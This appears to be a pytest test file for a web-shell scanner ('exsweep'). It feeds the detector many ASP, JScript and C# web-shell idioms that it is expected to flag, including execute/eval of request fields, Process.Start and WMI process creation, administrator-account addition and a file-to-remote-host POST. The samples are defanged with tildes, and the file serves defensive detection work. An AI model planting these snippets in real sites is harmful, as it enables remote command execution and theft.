"""Spellings of the same few abilities, one page for each class of idiom. EXSWEEP-INERT-FIXTURE"""

import pytest

from exsweep.model.files import FileReport, FileVerdict

from .pages import asp, csharp, handler, jscript, look, members, vb

FOUND = (FileVerdict.MALICIOUS, FileVerdict.SUSPICIOUS)


def _classic_jscript(code: str) -> FileReport:
    return look(f'<~%@ Language="JScript" %~><~% {code} %~>', "page.asp")


VBSCRIPT = {
    "the argument is a member of a With block": 'With req~uest: exec~ute .form("x")\nEnd With',
    "a function is referred to by its name": 'set f = GetRef("g"): f req~uest("x")\nsub g(y)\nexec~ute y\nend sub',
    "a default member": (
        'class c\npublic default function m(x)\nexec~ute x\nend function\nend class\nset o = new c\no(req~uest("x"))'
    ),
    "a property": (
        'class c\npublic property let m(x)\nexec~ute x\nend property\nend class\nset o = new c\no.m = req~uest("x")'
    ),
    "a dictionary": 'Set d = CreateObject("Scripting.Dictionary"): d.Add "a", req~uest("x"): exec~ute d("a")',
    "the session": 'Session("a") = req~uest("x"): exec~ute Session("a")',
    "an object by its class id": 'set s = getobject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8"): s.run req~uest("x")',
    "a class of Windows": 'set c = getobject("winmgmts:\\\\.\\root\\cimv2:Win32_Process"): c.create req~uest("x")',
    "a loop that makes letters of numbers": "for i = 0 to 9\ns = s & chr(t(i))\nnext\nexec~ute s",
    "a page that the visitor names": 'server.exec~ute(req~uest("x"))',
    "code that lies in another file": (
        'set t = server.createobject("scripting.filesystemobject").opentextfile(server.mappath("a.jpg")): exec~ute t.readall'
    ),
    "a string without its end": 'play = req~uest("M)\nexec~ute(play)',
    "rules that hold code": 'set x = createobject("msxml2.domdocument"): x.loadxml req~uest("x"): x.transformnode x',
    "an account": 'set u = getobject("WinNT://./administrators,group"): u.add req~uest("u")',
    "words of a list, sent elsewhere": (
        'set f = server.createobject("scripting.filesystemobject").opentextfile("c:\\a.txt"): w = split(f.readall, vbcrlf)\n'
        'for each p in w: set x = createobject("msxml2.xmlhttp"): x.open "POST", "http://a/", false: x.send "p=" & p: next'
    ),
}
JSCRIPT = {
    "the last of a comma": '(0,ev~al)(Req~uest("x")+"")',
    "the constructor of a function": '[].constructor.constructor(Req~uest("x")+"")()',
    "a name from pieces": 'this["ev"+"al"](Req~uest("x")+"")',
    "a call by call": 'ev~al.call(null, Req~uest("x")+"")',
    "a global object": '(function(){return this})().ev~al(Req~uest("x")+"")',
    "an old name": 'execScr~ipt(Req~uest("x")+"")',
    "conditional compilation": '/*@cc_on @*/ /*@ ev~al(Req~uest("x")+"") @*/',
    "a function kept in an object": 'var o={};o.run=ev~al;o.run(String(Req~uest("x")))',
    "a function that is handed back": "_()(_(!-''));function _(a){if(a){return Req~uest('_')+''}else{return ev~al}}",
    "a function without a name": 'var x=function(a){ev~al(a)};x(Req~uest("x")+"")',
    "a With block": 'with(Req~uest)ev~al(Form("x")+"")',
}
CSHARP = {
    "a delegate": 'Func<byte[],object> f=System.Reflection.Ass~embly.Load;f(Convert.FromBase64String(Req~uest["x"]));',
    "a lambda": 'Action<string> f=x=>System.Diagnostics.Pro~cess.Start(x);f(Req~uest["x"]);',
    "a library that the session keeps": 'var o=((System.Reflection.Ass~embly)Session["p"]).CreateInstance("L");o.Equals(d);',
    "a library in the page": 'System.Reflection.Ass~embly.Load(Convert.FromBase64String("TVqQAAMAAAAEAAAA")).EntryPoint.Inv~oke(null,null);',
    "a library from letters": 'string b="";for(int i=0;i<9;i++)b+=(char)(a[i]^5);System.Reflection.Ass~embly.Load(Convert.FromBase64String(b));',
    "a page fetched and written": 'new System.Net.WebClient().Downl~oadFile("http://a/b",Server.MapPath("a.aspx"));',
    "any file of the server": 'Response.WriteFile(Req~uest["f"]);',
    "an upload beside the page": 'Req~uest.Files["f"].SaveAs(Server.MapPath(".")+"\\\\"+Req~uest.Files["f"].FileName);',
    "a class of Windows": 'new System.Management.ManagementClass("Win32_Process").InvokeMethod("Create",new object[]{Req~uest["x"]});',
}


@pytest.mark.parametrize("idiom", VBSCRIPT)
def test_vbscript_is_found_in_any_spelling(idiom: str) -> None:
    assert asp(VBSCRIPT[idiom]).verdict in FOUND


@pytest.mark.parametrize("idiom", JSCRIPT)
def test_jscript_is_found_in_any_spelling(idiom: str) -> None:
    assert _classic_jscript(JSCRIPT[idiom]).verdict in FOUND


@pytest.mark.parametrize("idiom", CSHARP)
def test_csharp_is_found_in_any_spelling(idiom: str) -> None:
    assert csharp(CSHARP[idiom]).verdict in FOUND


def test_a_class_of_the_page_carries_what_it_is_given() -> None:
    page = members(
        "class Q{public string C;public void Go(){System.Diagnostics.Pro~cess.Start(C);}}"
        'void Page_Load(object s,EventArgs e){var q=new Q();q.C=Req~uest["x"];q.Go();}'
    )
    assert page.verdict is FileVerdict.MALICIOUS


def test_a_data_source_that_starts_programs_is_found() -> None:
    page = look(
        '<asp:ObjectDataSource SelectMethod="St~art" TypeName="system.diagnostics.pro~cess" ID="o" runat="server">'
        '<SelectParameters><asp:QueryStringParameter Name="a" QueryStringField="x"/></SelectParameters>'
        '</asp:ObjectDataSource><asp:GridView DataSourceID="o" runat="server"/>'
    )
    assert page.verdict in FOUND


def test_an_alias_of_a_directive_is_a_name() -> None:
    page = look(
        '<~%@ Page Language="C#" %~><~%@ Import Namespace="P=System.Diagnostics.Pro~cess" %~><~% P.Start(Req~uest["x"]); %~>'
    )
    assert page.verdict in FOUND


def test_quotes_of_a_word_processor_hide_nothing() -> None:
    page = look(
        "<script language=\u201cC#\u201d runat=\u201cserver\u201d>void Page_Load(object s,EventArgs e)"
        "{System.Diagnostics.Pro~cess.Start(\u201ccmd\u201d,Req~uest[\u201cx\u201d]);}</script>"
    )
    assert page.verdict in FOUND


def test_code_that_leaves_a_string_is_found() -> None:
    assert look('1":ev~al req~uest("a")\'', "page.asp").verdict in FOUND


@pytest.mark.parametrize("language", ["PerlScript", "Python"])
def test_a_page_in_a_language_that_nobody_writes_is_suspicious(language: str) -> None:
    assert look(f'<~%@ Language="{language}" %~><~% something(1) %~>', "page.asp").verdict in FOUND


def test_a_door_to_an_unexplained_library_is_suspicious() -> None:
    page = look('<script language="C#" runat="server">A.b.c d = new A.b.c("0123456789abcdef");</script>')
    assert page.verdict in FOUND


def test_a_defaced_page_is_suspicious_without_any_code() -> None:
    assert look("<html><title>Hac~ked by somebody</title></html>").verdict in FOUND


def test_a_page_where_only_intruders_put_pages_is_suspicious() -> None:
    page = "<~% Response.Write(1) %~>"
    assert look(page, "C:/inetpub/wwwroot/aspnet_client/x.aspx").verdict in FOUND
    assert look(page, "C:/inetpub/wwwroot/news/x.aspx").verdict is FileVerdict.UNREMARKABLE


@pytest.mark.parametrize(
    "report",
    [
        lambda: asp('ev~al(req~uest("field"))'),
        lambda: jscript('ev~al(Req~uest["field"],"unsafe");'),
        lambda: jscript('ev~al(Req~uest.Item["field"],"unsafe");'),
        lambda: csharp('System.Diagnostics.Pro~cess.Start(Req~uest.Headers["field"]);'),
        lambda: handler(
            "public class H:IHttpHandler{public void ProcessRequest(HttpContext c){"
            'System.Diagnostics.Pro~cess.Start(c.Req~uest.Form["field"]);}}'
        ),
    ],
)
def test_the_field_that_brings_the_order_is_named(report: object) -> None:
    assert callable(report)
    found = report()
    assert any("field" in each.inputs for each in found.capabilities), found.capabilities


@pytest.mark.parametrize(
    "report",
    [
        lambda: asp('exec~ute "result = f(" & name & ")"'),
        lambda: asp('set t = fso.opentextfile(server.mappath("a.txt")): response.write t.readall'),
        lambda: csharp("new System.IO.StreamReader(Req~uest.Files[0].InputStream).ReadToEnd();"),
        lambda: csharp('Req~uest.Files[0].SaveAs(Server.MapPath("images/")+"logo.png");'),
        lambda: look("<asp:Parameter DefaultValue='<~%# Ev~al(\"CategoryID\")' />"),
    ],
)
def test_what_ordinary_pages_do_stays_unremarkable(report: object) -> None:
    assert callable(report)
    assert report().verdict is FileVerdict.UNREMARKABLE


@pytest.mark.parametrize(
    "report",
    [
        lambda: _classic_jscript('with(new ActiveXObject("WScr~ipt.Sh~ell")){Run(Req~uest("x"))}'),
        lambda: _classic_jscript(
            'var n="",c=[101,118,97,108];for(var i=0;i<c.length;i++)n+=String.fromCharCode(c[i]);this[n](Req~uest("x"))'
        ),
        lambda: csharp(
            'System.IO.File.WriteAllText("C:\\\\a.bat", Req~uest["x"]);System.Diagnostics.Pro~cess.Start("C:\\\\a.bat");'
        ),
        lambda: csharp("System.IO.File.Delete(Req~uest[1]);"),
        lambda: members(
            'public void RaiseCallbackEvent(string a){System.Diagnostics.Pro~cess.Start("cmd","/c "+a);}'
        ),
        lambda: look("using System.Web.Mvc;class A:Controller{void R(string c){Pro~cess.Start(c);}}", "a.cs"),
    ],
)
def test_with_tables_of_letters_written_programs_and_callbacks_are_followed(report: object) -> None:
    assert callable(report)
    assert report().verdict in FOUND


def test_calling_a_function_of_the_page_by_its_name_is_ordinary() -> None:
    page = csharp('GetType().GetMethod("On"+Req~uest["m"]).Invoke(this,new object[]{Req~uest["x"]});')
    assert page.verdict is FileVerdict.UNREMARKABLE


def test_starting_a_fixed_program_by_a_start_info_is_not_hidden() -> None:
    page = csharp(
        'var i=new System.Diagnostics.ProcessStartInfo(Server.MapPath("a.exe"),"-q");System.Diagnostics.Pro~cess.Start(i);'
    )
    assert page.verdict is FileVerdict.UNREMARKABLE


@pytest.mark.parametrize(
    "report",
    [
        lambda: csharp(
            'System.IO.File.WriteAllText(@"C:\\inetpub\\wwwroot\\aspnet_client\\" + Req~uest["n"], Req~uest["d"]);'
        ),
        lambda: csharp(
            "foreach(var p in System.Diagnostics.Pro~cess.GetProcesses())Response.Write(p.ProcessName);"
        ),
        lambda: csharp(
            'Response.Write(System.IO.File.ReadAllText(Server.MapPath("~/web.config")));'.replace("~/", "/")
        ),
        lambda: vb(
            'System.Diagnostics.Pro~cess.Start(New String(Req~uest("x").Split(".").Select(Function(n) Chr(CInt(n))).ToArray()))'
        ),
        lambda: csharp(
            '((IHttpHandlerFactory)System.Activator.CreateInstance(System.Type.GetType(Req~uest["t"])))'
            '.GetHandler(Context,"GET","/",Req~uest["p"]);'
        ),
    ],
)
def test_served_folders_lists_of_programs_key_files_numbers_and_chosen_types_are_found(
    report: object,
) -> None:
    assert callable(report)
    assert report().verdict in FOUND


def test_a_program_that_a_process_object_starts_with_constants_is_not_hidden() -> None:
    page = csharp(
        'var p=new System.Diagnostics.Pro~cess();p.StartInfo.FileName="C:\\\\a.exe";'
        'p.StartInfo.Arguments=Server.MapPath("a.pdf");p.Start();'
    )
    assert page.verdict is FileVerdict.UNREMARKABLE


def test_a_file_of_the_site_that_is_a_page_by_its_name_may_be_run() -> None:
    code = 'executeglobal createobject("scripting.filesystemobject").opentextfile(server.mappath("lang/"&l&".{}")).readall'
    assert asp(code.format("asp")).verdict is FileVerdict.UNREMARKABLE
    assert asp(code.format("gif")).verdict in FOUND
